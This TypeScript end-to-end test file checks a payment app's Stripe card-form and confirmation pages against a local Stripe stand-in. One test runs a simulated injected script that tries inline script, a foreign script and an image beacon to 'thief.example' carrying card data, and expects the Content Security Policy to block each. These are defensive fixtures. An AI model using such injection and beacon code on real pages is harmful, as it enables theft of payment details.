import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../../../tests/setup/browser.ts';
import { makeTestDatabase } from '../../../tests/setup/database.ts';
import { expectAccessible, expectSeen, PATIENCE_MS } from '../../../tests/setup/journey.ts';
import { TEST_SECRET } from '../../../tests/setup/server.ts';
import {
  STAND_IN_PUBLISHABLE_KEY,
  STAND_IN_SECRET_KEY,
  startStripeStandIn,
} from '../../../tests/stand-ins/stripe/stand-in.ts';
import { startServer } from '../../app/server.ts';
import { systemClock } from '../../foundation/clock.ts';
import { fromPublicId, newId } from '../../foundation/id.ts';
import { systemCaller } from '../../workspace/caller.ts';
import { readWorkspaceFacts } from '../../workspace/read-facts.ts';
import { setUpHeadless } from '../../workspace/set-up-headless.ts';

const SIGNING_SECRET = 'whsec_standin_pages_1f2e3d4c5b6a';
const dataFolder = mkdtempSync(join(tmpdir(), 'counterfoil-stripe-'));
const browser = await launchBrowser();
const database = await makeTestDatabase();
const standIn = await startStripeStandIn({ now: systemClock.now });
const server = await startServer({
  database,
  secret: TEST_SECRET,
  logLevel: 'silent',
  dataFolder,
  shedLoad: false,
  gateways: {
    stripe: { apiBaseUrl: standIn.url, scriptUrl: standIn.scriptUrl, scriptOrigins: [standIn.url] },
    mollie: {},
  },
});
afterAll(async () => {
  await browser.close();
  await server.close();
  await standIn.stop();
  await database.drop();
  rmSync(dataFolder, { recursive: true, force: true });
});

const { apiKey, workspaceId } = await setUpHeadless(database, {
  now: systemClock.now(),
  publicUrl: server.address,
  ownerEmail: 'owner@example.com',
  workspaceName: 'Harbour Studio',
  mode: 'sandbox',
  currency: 'USD',
  timeZone: 'UTC',
});

async function api<Answer>(method: string, path: string, body?: unknown, key = newId()): Promise<Answer> {
  const response = await fetch(server.address + path, {
    method,
    headers: {
      authorization: `Bearer ${apiKey}`,
      'idempotency-key': key,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
  return (text === '' ? undefined : JSON.parse(text)) as Answer;
}

interface Form {
  id: string;
  url: string;
  status: string;
  payment_method: { id: string; last4: string; gateway: string } | null;
}
interface Payment {
  id: string;
  status: string;
  customer_link: string | null;
}

const connection = await api<{ event_address: string }>('POST', '/v1/gateway-connections', {
  gateway: 'stripe',
  values: {
    secret_key: STAND_IN_SECRET_KEY,
    publishable_key: STAND_IN_PUBLISHABLE_KEY,
    signing_secret: SIGNING_SECRET,
  },
});
const webhook = standIn.addWebhook(connection.event_address, [SIGNING_SECRET]);
const contact = await api<{ id: string }>('POST', '/v1/contacts', { name: 'Ada Lovelace', email: 'ada@example.com' });

const openForm = () =>
  api<Form>('POST', `/v1/contacts/${contact.id}/card-forms`, { consent_channel: 'web', gateway: 'stripe' });

async function visit(url: string, options: { width?: number; colorScheme?: 'light' | 'dark' } = {}): Promise<Page> {
  const context = await browser.newContext({
    viewport: { width: options.width ?? 800, height: 900 },
    colorScheme: options.colorScheme ?? 'light',
  });
  context.setDefaultTimeout(PATIENCE_MS);
  const page = await context.newPage();
  await page.goto(url);
  return page;
}

async function addCard(testMethod: string): Promise<Form> {
  const form = await openForm();
  const page = await visit(form.url);
  await page.frameLocator('iframe').getByLabel('Test method').selectOption(testMethod);
  await page.getByRole('button', { name: 'Save card' }).click();
  await expectSeen(page, 'The card is saved.');
  await page.context().close();
  return api<Form>('GET', `/v1/card-forms/${form.id}`);
}

const chargeWith = (methodId: string, amountMinor = 12_000) =>
  api<Payment>('POST', `/v1/contacts/${contact.id}/charges`, {
    amount_minor: amountMinor,
    currency: 'USD',
    payment_method_id: methodId,
    description: 'Consultation',
  });

/** Runs in the page, as a script would that found its way into it. Ends when the browser has told of three kinds of stop. */
const TRY_TO_STEAL = `new Promise((resolve) => {
  const seen = new Set();
  document.addEventListener('securitypolicyviolation', (event) => {
    seen.add(event.effectiveDirective);
    if (seen.size === 3) resolve({ seen: [...seen].sort(), stolen: 'stolen' in window });
  });
  const inline = document.createElement('script');
  inline.textContent = 'window.stolen = true';
  const foreign = Object.assign(document.createElement('script'), { src: '/stripe-pages/anything.js' });
  const image = Object.assign(document.createElement('img'), { src: 'https://thief.example/?card' });
  document.body.append(inline, foreign, image);
  fetch('/v1/contacts').catch(() => null);
})`;

describe('the page of Stripe’s form', () => {
  it('saves a card, which is charged afterwards without the customer', async () => {
    const form = await addCard('pm_card_visa');
    expect(form).toMatchObject({ status: 'completed', payment_method: { last4: '4242' } });
    expect(await chargeWith(form.payment_method!.id)).toMatchObject({ status: 'settled' });
  });

  it('says what the bank said, and can be tried again', async () => {
    const form = await openForm();
    const page = await visit(form.url, { width: 390, colorScheme: 'dark' });
    const method = page.frameLocator('iframe').getByLabel('Test method');
    await method.selectOption('pm_card_visa_setupDeclined');
    await page.getByRole('button', { name: 'Save card' }).click();
    await expectSeen(page, 'Your card was declined.');
    await expectAccessible(page);
    expect(await api<Form>('GET', `/v1/card-forms/${form.id}`)).toMatchObject({ status: 'open' });
    await method.selectOption('pm_card_mastercard');
    await page.getByRole('button', { name: 'Save card' }).click();
    await expectSeen(page, 'The card is saved.');
    await page.reload();
    await expectSeen(page, 'The card is saved. You can close this form.');
    await page.context().close();
  });

  it('lets no script run but ours and the gateway’s, and sends nothing elsewhere', async () => {
    const form = await openForm();
    const page = await visit(form.url);
    await page.frameLocator('iframe').getByLabel('Test method').waitFor();
    const stopped = await page.evaluate<{ seen: string[]; stolen: boolean }>(TRY_TO_STEAL);
    expect(stopped).toEqual({ seen: ['connect-src', 'img-src', 'script-src-elem'], stolen: false });
    await page.context().close();
  });

  it('is not shown without its key, to another workspace, or when it does not exist', async () => {
    const { url } = await openForm();
    const address = new URL(url);
    const broken = [
      url.replace(/key=.*/, ''),
      url.replace(/key=.{3}/, 'key=abc'),
      url.replace('/form/', '/confirm/'),
      url.replace(/seti_standin\d+/, 'seti_standin000000001'),
      url.replace(/[0-9a-f-]{36}/, newId()),
      `${address.origin}/stripe-pages/form/x/y?key=z`,
    ];
    for (const wrong of broken) {
      const response = await fetch(wrong);
      expect(response.status, wrong).toBe(404);
      expect(await response.text()).not.toContain('_secret_');
    }
    const right = await fetch(url);
    expect(right.status).toBe(200);
    expect(right.headers.get('cache-control')).toBe('no-store');
    expect(right.headers.get('referrer-policy')).toBe('no-referrer');
    expect(right.headers.get('content-security-policy')).toMatch(/^default-src 'none'; script-src 'sha256-[^']+' http/);
    expect(right.headers.get('content-security-policy')).not.toContain('unsafe');
    expect(right.headers.get('reporting-endpoints')).toContain('/csp-reports');
  });

  it('takes a browser’s report, and nothing that is not one', async () => {
    const send = (mime: string, body: string) =>
      fetch(`${server.address}/csp-reports`, {
        method: 'POST',
        headers: { 'content-type': mime },
        body,
      });
    const old = {
      'csp-report': { 'violated-directive': 'script-src-elem', 'blocked-uri': 'https://thief.example/x?key=1' },
    };
    const recent = [
      { type: 'csp-violation', body: { effectiveDirective: 'img-src', blockedURL: 'https://thief.example/' } },
    ];
    expect((await send('application/csp-report', JSON.stringify(old))).status).toBe(204);
    expect((await send('application/reports+json', JSON.stringify(recent))).status).toBe(204);
    expect((await send('application/csp-report', 'no JSON')).status).toBe(204);
    expect((await send('application/csp-report', 'x'.repeat(20_000))).status).toBe(413);
  });
});

describe('the page on which a customer confirms', () => {
  it('completes the payment that waited, as Stripe’s message says and not the browser', async () => {
    const { payment_method } = await addCard('pm_card_authenticationRequired');
    const asked = await chargeWith(payment_method!.id, 34_500);
    expect(asked).toMatchObject({ status: 'needs_customer' });
    const page = await visit(asked.customer_link!, { width: 390 });
    await expectSeen(page, 'Confirm a payment to Harbour Studio');
    await expectSeen(page, 'Consultation');
    await expectAccessible(page);
    page.once('dialog', (dialog) => void dialog.dismiss());
    await page.getByRole('button', { name: 'Confirm $345.00' }).click();
    await expectSeen(page, 'has failed authentication');
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Confirm $345.00' }).click();
    await expectSeen(page, 'The payment is confirmed.');
    await webhook.delivered();
    expect(webhook.answers.filter((status) => status < 200 || status > 299)).toEqual([]);
    await expect
      .poll(async () => (await api<Payment>('GET', `/v1/payments/${asked.id}`)).status, { timeout: PATIENCE_MS })
      .toBe('settled');
    await page.reload();
    await expectSeen(page, 'Thank you. The payment is confirmed.');
    await page.context().close();
  });
});

describe('a customer who pays on a page of ours', () => {
  it('answers their bank’s question at once, and may be asked again after a slip', async () => {
    const { payment_method } = await addCard('pm_card_authenticationRequired');
    const facts = await readWorkspaceFacts(database, workspaceId);
    const paid = await server.rooms.payments.charges.charge(
      systemCaller(facts!, systemClock.now()),
      {
        contactId: fromPublicId('contact', contact.id)!,
        paymentMethodId: fromPublicId('paymentMethod', payment_method!.id)!,
        amountMinor: 12_300n,
        currency: 'USD',
        taxMinor: 0n,
        description: 'Course fee',
        retryOfId: null,
        confirmSameAgain: true,
        byCustomer: true,
        allocations: null,
      },
      newId(),
    );
    expect(paid.row.status).toBe('needs_customer');
    const page = await visit(paid.row.customer_link!);
    page.once('dialog', (dialog) => void dialog.dismiss());
    await page.getByRole('button', { name: 'Confirm $123.00' }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).not.toBe('');
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Confirm $123.00' }).click();
    await expectSeen(page, 'The payment is confirmed.');
    await page.context().close();
  });
});

it('every request and every answer fits Stripe’s published description', () => {
  expect(standIn.problems()).toEqual([]);
});
